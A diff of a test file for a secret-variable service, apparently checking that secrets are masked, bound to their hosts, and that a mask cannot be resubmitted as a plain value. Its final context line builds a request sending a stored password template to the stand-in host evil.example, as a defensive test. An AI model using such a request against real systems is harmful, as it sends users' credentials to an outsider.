@@ -134,6 +134,13 @@ test('a secret is encrypted, masked and bound to its hosts; adding hosts require
   t.is(wider.body.details[0].path, 'value');
   t.regex(wider.body.details[0].message, /evil\.example is a new host/);
   t.is((await set({ ...masked, hosts: ['a.inner.example'] })).status, 409);
+  for (const plain of [{ value: masked.value }, { value: masked.value, isSecret: false }]) {
+    const { status, body } = await set(plain);
+    t.is(status, 400);
+    t.deepEqual(body.details, [
+      { path: 'value', message: 'is the mask of a secret: give the value, or set `isSecret`' },
+    ]);
+  }
   t.is((await harness.request('DELETE', `${variables}/shop_password`)).status, 409);
 
   const evil = check({}, { url: 'https://evil.example/', body: '{{variables.shop_password}}' });
